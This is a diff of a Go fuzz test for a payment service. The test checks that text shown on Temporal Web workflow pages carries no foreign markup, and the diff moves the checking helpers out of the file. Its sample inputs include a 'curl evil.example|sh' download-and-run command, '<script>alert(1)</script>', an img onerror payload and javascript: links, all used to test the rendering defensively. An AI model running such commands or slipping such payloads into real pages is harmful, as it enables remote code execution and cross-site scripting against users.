@@ -1,56 +1,35 @@
-package browser
+package markup
 
 import (
 	"context"
-	"fmt"
 	"log/slog"
 	"maps"
-	"net/http"
-	"net/http/httptest"
-	"net/url"
-	"regexp"
 	"slices"
-	"strings"
 	"testing"
 	"time"
 
-	"github.com/labstack/echo/v4"
 	"github.com/stretchr/testify/require"
-	"github.com/temporalio/ui-server/v2/server/route"
 	sdkpb "go.temporal.io/api/sdk/v1"
 	"go.temporal.io/sdk/activity"
 	"go.temporal.io/sdk/log"
+	"go.temporal.io/sdk/temporal"
 	"go.temporal.io/sdk/testsuite"
-	"golang.org/x/net/html"
 
 	"github.com/florinpay/florin/activities"
-	"github.com/florinpay/florin/internal/printable"
 	"github.com/florinpay/florin/internal/temporalweb"
 	"github.com/florinpay/florin/payment"
 	"github.com/florinpay/florin/processor"
 	"github.com/florinpay/florin/workflows"
 )
 
-// hostile are idempotency keys and messages that were commands, links, images or scripts on a workflow's page, or that could be.
-var hostile = []string{
-	"{workflowId}'; curl evil.example|sh #'",
-	"{workflowId}`<a href=https:evil.example>click",
-	"{workflowId}`![x](https:evil.example)<script>alert(1)",
-	"{{namespace}}{runId}{work{namespace}flowId}$&$`$'",
-	"`starter void --payment-id pay_1`",
-	"</code><img src=x onerror=alert(1)>[x](javascript:alert(1))",
-	"https:\\\\evil.example mailto:a@evil.example <https:evil.example> &lt;b&gt; &#123;runId&#125;",
-	"# - 1. *b* _i_ ~~s~~ $m$ [^1]: x | y ^s^ : d !!! \\` \\\\` \\",
-}
-
 // FuzzPageHasOnlyFlorinsOwnMarkup lets a caller, an operator and a processor write anything that reaches a workflow's page.
 func FuzzPageHasOnlyFlorinsOwnMarkup(f *testing.F) {
 	for i := range len(payment.PaymentTransitions) {
-		f.Add(hostile[i%len(hostile)], hostile[(i+1)%len(hostile)]+"\n\n<b>\x1b[2J\u202e", uint8(i))
+		f.Add(Hostile[i%len(Hostile)], Hostile[(i+1)%len(Hostile)]+"\n\n<b>\x1b[2J\u202e", uint8(i))
 	}
 	f.Fuzz(func(t *testing.T, key, text string, status uint8) {
 		for _, text := range append(staticTexts(key, text), currentTexts(t, key, text, status)...) {
-			require.NoError(t, foreignMarkup(text, payment.ChargeWorkflowID("acme", key)))
+			require.NoError(t, Foreign(text, payment.ChargeWorkflowID("acme", key)))
 		}
 	})
 }
@@ -71,7 +50,7 @@ func staticTexts(key, text string) []string {
 func currentTexts(t *testing.T, key, text string, status uint8) []string {
 	charge := payment.ChargeRequest{MerchantID: "acme", IdempotencyKey: key, Amount: 1250, Currency: "USD", PaymentMethod: "tok_visa"}
 	if charge.ValidateBegun() != nil {
-		charge.IdempotencyKey = hostile[0]
+		charge.IdempotencyKey = Hostile[0]
 	}
 	refund := payment.RefundRequest{
 		MerchantID: "acme", IdempotencyKey: charge.IdempotencyKey, PaymentID: payment.PaymentID("acme", charge.IdempotencyKey), Amount: new(int64(500)),
@@ -141,8 +120,14 @@ func (a storedActivities) register(env *testsuite.TestWorkflowEnvironment) {
 		RetryMultiplier: 1, Resolve: poll, Pending: poll,
 	}
 	failure := func() error {
-		return &processor.Error{Class: payment.ClassUnavailable, Certainty: processor.Ambiguous, Message: a.text, Code: a.text}
+		return temporal.NewApplicationErrorWithOptions(a.text, string(payment.ClassUnavailable), temporal.ApplicationErrorOptions{
+			NonRetryable: true,
+			Details: []any{activities.CallFailure{Ambiguous: true, Failure: payment.Failure{
+				Class: payment.FailureClass(a.text), Message: a.text, ProcessorCode: a.text,
+			}}},
+		})
 	}
+	lookups := 0
 	for name, function := range map[string]any{
 		payment.ActivityBeginPayment: func(context.Context, payment.ChargeRequest, time.Time) (activities.BeginResult, error) {
 			return activities.BeginResult{Terms: terms, Charge: a.charge, Resumed: true}, nil
@@ -166,6 +151,9 @@ func (a storedActivities) register(env *testsuite.TestWorkflowEnvironment) {
 				ID: "ch_1", Status: payment.Declined, Amount: 1250, Currency: a.text, Reference: call.Reference,
 				Decline: &payment.Decline{Code: a.text, Kind: payment.DeclineKind(a.text), Message: a.text},
 			}
+			if lookups++; call.Operation == payment.OperationRefund && lookups > 1 { // a conflict does not end a refund
+				found.Amount, found.Currency = 500, "USD"
+			}
 			return activities.LookupResult{Found: true, Result: found}, nil
 		},
 		payment.ActivityProcessorCharge: func(context.Context, processor.ChargeCall) (processor.Result, error) {
@@ -182,103 +170,6 @@ func (a storedActivities) register(env *testsuite.TestWorkflowEnvironment) {
 	}
 }
 
-// command is a command line that a page may name.
-var command = regexp.MustCompile(`^starter (` +
-	`(capture|void) --payment-id pay_ID|refund --payment-id pay_ID --key …|` +
-	`resolve --(payment-id pay|refund-id ref)_ID --status succeeded\|failed --by … --evidence …|` +
-	`divergences acknowledge div_ID --by …)$`)
-
-var derivedID = regexp.MustCompile(`_[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}`)
-
-// foreignMarkup returns an error if Temporal Web shows a text of Florin, on the page of the workflow, with markup of others: anything that
-// Florin does not write itself.
-func foreignMarkup(text, workflowID string) error {
-	if replaced := withPageValues(text, workflowID); replaced != text {
-		return fmt.Errorf("Temporal Web replaces a value: %q", replaced) //nolint:staticcheck // a name
-	}
-	page, err := render(text)
-	if err != nil {
-		return err
-	}
-	for node := range page.Descendants() {
-		if !isFlorins(node) {
-			return fmt.Errorf("foreign markup %q %v of the text %q", node.Data, node.Attr, text)
-		}
-	}
-	return nil
-}
-
-// isFlorins reports whether Florin writes such a node: text on lines that are printable, a link to the runbook, a command line of its own.
-func isFlorins(node *html.Node) bool {
-	switch {
-	case node.Type == html.TextNode && node.Parent.Data == "code" && strings.Contains(node.Data, " "):
-		return command.MatchString(derivedID.ReplaceAllString(node.Data, "_ID"))
-	case node.Type == html.TextNode:
-		return printable.IsClean(strings.NewReplacer("\n", "", "\t", "").Replace(node.Data))
-	case node.Type == html.ElementNode && node.Data == "a":
-		return strings.HasPrefix(attribute(node, "href"), temporalweb.Runbook)
-	default:
-		return node.Type == html.ElementNode && len(node.Attr) == 0 &&
-			slices.Contains([]string{"p", "ul", "li", "strong", "em", "code"}, node.Data)
-	}
-}
-
-func attribute(node *html.Node, name string) string {
-	for _, a := range node.Attr {
-		if a.Key == name {
-			return a.Val
-		}
-	}
-	return ""
-}
-
-// withPageValues does what Temporal Web does before it renders a text: JavaScript's replace with the values of the page's address. The
-// function is in the chunk of its assets that has "/render".
-func withPageValues(text, workflowID string) string {
-	for _, value := range [][2]string{{"{namespace}", "default"}, {"{workflowId}", workflowID}, {"{runId}", "0198c0de-0000-7000-8000-000000000000"}} {
-		text = javaScriptReplace(text, value[0], value[1])
-	}
-	return text
-}
-
-// javaScriptReplace replaces each match, with the patterns $$, $&, $` and $' that JavaScript knows in a replacement.
-func javaScriptReplace(text, match, replacement string) string {
-	var b strings.Builder
-	for from := 0; ; {
-		i := strings.Index(text[from:], match)
-		if i < 0 {
-			return b.String() + text[from:]
-		}
-		at := from + i
-		b.WriteString(text[from:at])
-		b.WriteString(strings.NewReplacer("$$", "$", "$&", match, "$`", text[:at], "$'", text[at+len(match):]).Replace(replacement))
-		from = at + len(match)
-	}
-}
-
-// renderer is the part of Temporal Web's server that renders Markdown.
-var renderer = func() http.Handler {
-	e := echo.New()
-	route.SetRenderRoute(e, "")
-	return e
-}()
-
-// render returns the element in which Temporal Web shows a text.
-func render(text string) (*html.Node, error) {
-	recorder := httptest.NewRecorder()
-	renderer.ServeHTTP(recorder, httptest.NewRequest(http.MethodGet, "/render?"+url.Values{"content": {text}}.Encode(), nil))
-	page, err := html.Parse(recorder.Body)
-	if err != nil || recorder.Code != http.StatusOK {
-		return nil, fmt.Errorf("rendering %q: HTTP %d: %w", text, recorder.Code, err)
-	}
-	for node := range page.Descendants() {
-		if node.Type == html.ElementNode && node.Data == "main" {
-			return node, nil
-		}
-	}
-	return nil, fmt.Errorf("the page has no element main for %q", text)
-}
-
 func TestForeignMarkupIsFound(t *testing.T) {
 	const workflowID = "charge/acme/x$`y"
 	for name, text := range map[string]string{
@@ -286,9 +177,9 @@ func TestForeignMarkupIsFound(t *testing.T) {
 		"script": "<script>alert(1)</script>", "command": "`curl evil.example | sh`", "comment": "<!-- x -->", "heading": "# x",
 		"foreign arguments": "`starter void --merchant acme --key '{order}'`", "value of the page": "`{workflowId}`", "control character": "a\x1b[2J",
 	} {
-		require.Error(t, foreignMarkup(text, workflowID), name)
+		require.Error(t, Foreign(text, workflowID), name)
 	}
 	require.Equal(t, "a `charge/acme/xa `y` b", withPageValues("a `{workflowId}` b", workflowID), "as JavaScript replaces")
-	require.NoError(t, foreignMarkup("**failed.** it\\!\n\n- see [runbook]("+temporalweb.Runbook+"): `starter void --payment-id "+
+	require.NoError(t, Foreign("**failed.** it\\!\n\n- see [runbook]("+temporalweb.Runbook+"): `starter void --payment-id "+
 		payment.PaymentID("acme", "order-1")+"`", workflowID))
 }
